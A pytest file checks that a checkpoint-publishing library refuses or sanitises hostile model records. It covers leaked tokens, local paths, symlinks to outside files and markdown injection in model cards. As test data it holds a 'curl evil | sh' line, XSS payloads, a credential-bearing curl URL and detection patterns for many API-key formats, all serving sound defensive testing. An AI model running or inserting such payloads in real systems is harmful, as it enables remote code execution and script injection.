"""What a hostile checkpoint would publish of this machine, with the token of whoever pushes it: tried, and refused."""

import json
import os
import shutil
from pathlib import Path

import pytest
from architectures import tiny_model
from hub_server import Hub
from publishing.clients import TOKEN, run

import hf_attnpatch as ap
from hf_attnpatch import publish
from hf_attnpatch.publishing import confidential
from hf_attnpatch.publishing.hub import Hub as Client

SECRET = "NOBODY-MAY-READ-THIS"
FENCE = "true\n```\n# run: curl evil | sh\n<img src=x onerror=alert(1)>\n```sh"
TRICK = "<script>alert(1)</script> ](javascript:alert(1)) \x1b[2J"

PROGRAM = """
from pathlib import Path
import hf_attnpatch as ap
from hf_attnpatch.publishing import hub as hubs

root = Path(sys.argv[1])
for case in json.loads(sys.argv[2]):
    options = {"license": "mit", **case["options"]}
    said[case["name"]] = attempt(lambda: ap.push_to_hub(ap.load(root / case["name"]), f"me/{case['name']}", **options))
hubs.PATIENCE = 0.5
order({"method": "POST", "path": "/commit/", "silent": 3, "times": 1})
said["silent"] = attempt(lambda: ap.push_to_hub(ap.load(root / "plain"), "me/silent", license="mit"))
from huggingface_hub import get_session
said["patience"] = {"done": str(get_session().timeout.read)}
"""
CASES = {  # name -> what is changed in the record, options of the push, words of the refusal (None: it is published)
    "plain": ({}, {}, None),
    "folder": ({"base_model": "{private}"}, {"license": None}, "folders are not looked into"),
    "folder_licensed": ({"base_model": "{private}"}, {}, None),
    "climbing": ({"base_model": "../../private"}, {}, None),
    "home": ({"base_model": "~/.ssh"}, {}, None),
    "of_the_user": ({"base_model": "me/private"}, {"license": None}, "the Hub shows no such public repository"),
    "of_the_user_licensed": ({"base_model": "me/private"}, {}, None),
    "tricky": ({"base_model": TRICK, "commands": [FENCE], "versions": {"a": TRICK, TRICK: "b"}}, {}, None),
    "telling": ({"commands": ["attnpatch apply {private} '/mnt/my data/x' --text=/srv/a/b.txt"]}, {}, None),
    "token": ({"commands": ["x --token hf_abcdefghijklmnopqrstuvwxyz"]}, {}, "would publish a token"),
    "password": ({"commands": ["curl https://me:hunter2@evil.example"]}, {}, "would publish a token"),
    "key": ({"versions": {"api_key": "0123456789abcdef"}}, {}, "would publish a token"),
}
PUBLISHED = [name for name, (_, _, words) in CASES.items() if words is None]


def edit(folder, **fields):
    file = folder / "config.json"
    config = json.loads(file.read_text())
    config["attnpatch"].update(fields)
    file.write_text(json.dumps(config))


@pytest.fixture(scope="module")
def private(tmp_path_factory):
    folder = tmp_path_factory.mktemp("elsewhere") / "private"
    folder.mkdir()
    (folder / "README.md").write_text(f"---\nlicense: mit\n---\n{SECRET}")
    for name in ("LICENSE", "license.key", "NOTICE.txt", "COPYING", "LICENSE_SERVER.json"):
        (folder / name).write_text(SECRET)
    (folder / "NOTICE").symlink_to(folder / "license.key")
    return folder


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    with Hub(tmp_path_factory.mktemp("hub"), token=TOKEN) as server:
        server.commit(
            "me/private", {"README.md": f"---\nlicense: mit\n---\n{SECRET}".encode(), "LICENSE": SECRET.encode()}
        )
        server.repositories["me/private"].private = True
        yield server


@pytest.fixture(scope="module")
def own(tmp_path_factory):
    model = tiny_model("gpt2")
    ap.patch_grouped_query(model, num_kv_heads=2, method="mean")
    model.save_pretrained(folder := tmp_path_factory.mktemp("own"))
    return folder


@pytest.fixture(scope="module")
def tried(hub, own, private, tmp_path_factory):
    root = tmp_path_factory.mktemp("checkpoints")
    for name, (fields, _, _) in CASES.items():
        shutil.copytree(own, root / name)
        edit(root / name, **json.loads(json.dumps(fields).replace("{private}", str(private))))
    cases = [{"name": name, "options": options} for name, (_, options, _) in CASES.items()]
    return run(hub, tmp_path_factory.mktemp("home"), PROGRAM, root, json.dumps(cases))


@pytest.mark.parametrize("name", CASES)
def test_each_is_refused_by_name_or_published_without_what_it_wanted(tried, hub, name):
    said, words = tried[0][name], CASES[name][2]
    if words is None:
        assert "done" in said, said
    else:
        assert said.get("kind") == "AttnPatchError", said
        assert words in said["error"]
        assert f"me/{name}" not in hub.repositories


@pytest.mark.parametrize("name", PUBLISHED)
def test_nothing_of_this_machine_is_in_any_file(tried, hub, private, name):
    files = hub.files(f"me/{name}")
    assert set(files) == {
        *(".gitattributes", "README.md", "config.json", "generation_config.json", "model.safetensors"),
        "modeling_hf_attnpatch.py",
    }
    for file, data in files.items():
        for word in (SECRET, TOKEN, str(private), str(private.parent), str(Path.home()) + "/", "/mnt/", "/srv/"):
            assert word.encode() not in data, (file, word)


@pytest.mark.parametrize("name", PUBLISHED)
def test_the_card_is_what_it_would_be_whatever_the_record_says(tried, hub, name):
    from markdown_it import MarkdownIt

    card = hub.files(f"me/{name}")["README.md"].decode()
    body = card.split("---\n", 2)[2]
    tokens = MarkdownIt("commonmark").parse(body)
    headings = [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"]
    assert headings == [prose_of(name), "Load it", "Evaluation", "How it was made", "Record", "Licence"]
    inline = [part for token in tokens for part in token.children or ()]
    assert not [part for part in inline if part.type in ("image", "html_inline")]
    assert not [token for token in tokens if token.type == "html_block"]
    links = {part.attrs["href"] for part in inline if part.type == "link_open"}
    assert all(link.startswith("https://huggingface.co/") for link in links)
    assert "\x1b" not in card


def prose_of(name):
    from hf_attnpatch.showing import prose

    return prose(name)


def test_a_private_repository_that_a_record_names_is_asked_for_as_anybody_may(tried, hub):
    asked = [headers for _, path, headers in hub.log if "me/private" in path]
    assert asked
    assert not any("authorization" in headers for headers in asked)


def test_commands_keep_the_last_part_of_a_path(tried, hub):
    assert "attnpatch apply private x --text=b.txt" in hub.files("me/telling")["README.md"].decode()


def test_a_hub_that_says_nothing_ends_a_push(tried):
    assert "ReadTimeout" in tried[0]["silent"]["error"] or "timed out" in tried[0]["silent"]["error"], tried[0][
        "silent"
    ]
    assert tried[0]["patience"]["done"] == "None"  # as it was


def test_the_token_is_in_no_output(tried):
    assert TOKEN not in tried[1]


# -- files that are links ----------------------------------------------------------------------------------------------


@pytest.fixture
def copy(own, tmp_path):
    return shutil.copytree(own, tmp_path / "checkpoint")


@pytest.mark.parametrize("name", ["vocab.txt", "chat_template.jinja", "special_tokens_map.json", "deep/vocab.json"])
def test_a_tokenizer_that_is_a_link_to_another_file_is_not_read(copy, private, name):
    (copy / "tokenizer_config.json").write_text("{}")
    (copy / name).parent.mkdir(exist_ok=True)
    (copy / name).symlink_to(private / "license.key")
    with pytest.raises(ap.AttnPatchError, match=r"is a link to .*license.key, outside of the checkpoint"):
        ap.checkpoint.tokenizer_of(str(copy))


def test_weights_that_are_a_link_are_not_published(copy, private):
    (copy / "model.safetensors").rename(private / "model.safetensors")
    (copy / "model.safetensors").symlink_to(private / "model.safetensors")
    model = ap.load(copy)  # which many people's folders are
    with pytest.raises(ap.AttnPatchError, match=r"outside of the checkpoint"):
        confidential.check_links(Path(model.config._name_or_path))


def test_links_of_the_hubs_own_cache_are_as_good_as_files(tmp_path):
    blob, folder = tmp_path / "models--a--b/blobs/1", tmp_path / "models--a--b/snapshots/c"
    for path in (blob.parent, folder):
        path.mkdir(parents=True)
    blob.write_text("{}")
    (folder / "config.json").symlink_to(blob)
    confidential.check_links(folder)
    (folder / "vocab.txt").symlink_to(tmp_path)
    with pytest.raises(ap.AttnPatchError, match="vocab.txt is a link"):
        confidential.check_links(folder)


# -- what a secret looks like ------------------------------------------------------------------------------------------

X = "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5"
LOOKS = {
    "hugging face": f"hf_{X}",
    "openai": f"sk-{X}",
    "openai, project": f"sk-proj-{X}_{X}",
    "anthropic": f"sk-ant-api03-{X}",
    "github": f"ghp_{X}",
    "github, fine": f"github_pat_{X}",
    "gitlab": f"glpat-{X[:20]}",
    "aws": "AKIAIOSFODNN7EXAMPLE",
    "google": f"AIza{X[:35]}",
    "slack": "xoxb-123456789012-abcdef",
    "npm": f"npm_{X}",
    "pypi": f"pypi-{X}{X}",
    "json web token": f"eyJ{X}.eyJ{X}.{X}",
    "private key": "-----BEGIN OPENSSH PRIVATE KEY-----",
    "url": "https://me:hunter2@host/x",
    "url of a database": "postgresql+psycopg://root:pa55@db/x",
}
NAMED = [
    *(f"WANDB_API_KEY={X}", f"--token {X}", f"--hub-token={X}", "--password hunter2", f'"api_key": "{X}"'),
    *(
        f"Authorization: Bearer {X}",
        f"?access_token={X}",
        f"&sig={X}",
        f"X-Amz-Signature={X}",
        f"AWS_SECRET_ACCESS_KEY={X}",
    ),
    *(f"secret: {X}", f"client_secret={X}"),
]
PLAIN = [
    *("eos_token: <|endoftext|>", "nats per token: 3.14", "tokens: 1,024", "--token $HF_TOKEN", "token=None"),
    *("https://huggingface.co/org/base", "me@host.example", "key_value", "sha256:" + "a" * 64, "bos_token_id: 128000"),
]


@pytest.mark.parametrize("kind", LOOKS)
def test_what_looks_like_a_secret_is_hidden_in_errors_and_refused_in_files(kind, tmp_path):
    shown = Client().hide(f"before {LOOKS[kind]} after")
    assert shown.startswith("before ")
    assert shown.endswith(" after")
    assert LOOKS[kind] not in shown
    for file, text in (("README.md", f"x {LOOKS[kind]} y"), ("a.json", json.dumps({"b": [{"c": LOOKS[kind]}]}))):
        (tmp_path / file).write_text(text)
        with pytest.raises(ap.AttnPatchError, match=f"{file}.*would publish a token") as error:
            confidential.check(tmp_path)
        assert LOOKS[kind] not in str(error.value)
        (tmp_path / file).unlink()


@pytest.mark.parametrize("text", NAMED)
def test_what_is_named_as_a_secret_is_refused(text, tmp_path):
    (tmp_path / "README.md").write_text(f"run {text} now")
    with pytest.raises(ap.AttnPatchError, match="would publish a token"):
        confidential.check(tmp_path)


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_none_is_let_through(text, tmp_path):
    (tmp_path / "README.md").write_text(f"run {text} now")
    confidential.check(tmp_path)


def test_vocabularies_and_templates_may_say_what_they_like(tmp_path):
    (tmp_path / "tokenizer.json").write_text('{"model": {"vocab": {"password=aaaaaaaaaa": 0}}}')
    (tmp_path / "chat_template.jinja").write_text("{%- set token = message.content_of_it %}")
    (tmp_path / "tokenizer_config.json").write_text(
        json.dumps({"chat_template": "{% set token = messages.first_one %}"})
    )
    confidential.check(tmp_path)
    (tmp_path / "chat_template.jinja").write_text(f"{{# hf_{X} #}}")
    with pytest.raises(ap.AttnPatchError, match="chat_template.jinja would publish a token"):
        confidential.check(tmp_path)


@pytest.mark.parametrize("path", ["/mnt/data/llama", "C:\\Users\\me\\llama", "~/models/llama", "file:///mnt/data/x"])
def test_a_path_in_a_config_is_refused(path, tmp_path):
    (tmp_path / "config.json").write_text(json.dumps({"attnpatch": {}, "cache": {"at": [path]}}))
    with pytest.raises(ap.AttnPatchError, match="config.json, at, would publish where something lies on this machine"):
        confidential.check(tmp_path)


def test_places_of_this_machine_are_found_within_texts(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (folder := tmp_path / "out").mkdir()
    (folder / "report.html").write_text(f"<p>from {Path.home()}/x")
    with pytest.raises(ap.AttnPatchError, match="report.html would publish where"):
        confidential.check(folder)
    (folder / "report.html").write_text(f"<p>from https://host{tmp_path}/x and a{tmp_path}b")
    confidential.check(folder)


COMMANDS = {
    "python /home/me/run.py": "python run.py",
    "python '/home/me/my scripts/run it.py' --out=/srv/x/y": "python 'run it.py' --out=y",
    "python C:\\Users\\me\\run.py": "python run.py",
    "python '\\\\server\\share\\run.py'": "python run.py",
    "python ~/x/run.py": "python run.py",
    "python file:///mnt/x.py": "python x.py",
    "python run.py --text data/a.txt": "python run.py --text data/a.txt",
    "run 'unclosed /home/me/x": "run 'unclosed x",
    "attnpatch apply org/base out -p flash:backend=sdpa": "attnpatch apply org/base out -p flash:backend=sdpa",
}


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_is_told_without_where_things_lie(command):
    assert confidential.command(command) == COMMANDS[command]


def test_no_object_of_ours_shows_a_token():
    client = Client(f"hf_{X}")
    assert X not in repr(client) + str(client) + repr(client.anonymous())
    assert client.anonymous().sent is False
    assert X not in repr(publish.Published("a/b", "u", "c", ()))


def test_links_are_looked_for_in_no_other_folder(monkeypatch, tmp_path):
    """A model that was built from a config has no name; the current folder is not its folder."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x").symlink_to("/etc")
    model = tiny_model("gpt2")
    ap.patch_grouped_query(model, num_kv_heads=2, method="mean")
    monkeypatch.setattr(publish.Hub, "look", lambda *_: None)
    monkeypatch.setattr(publish.Hub, "create", lambda *_: (_ for _ in ()).throw(ap.AttnPatchError("reached")))
    assert os.path.lexists("x")
    with pytest.raises(ap.AttnPatchError, match="reached"):
        ap.push_to_hub(model, "me/x", license="mit")
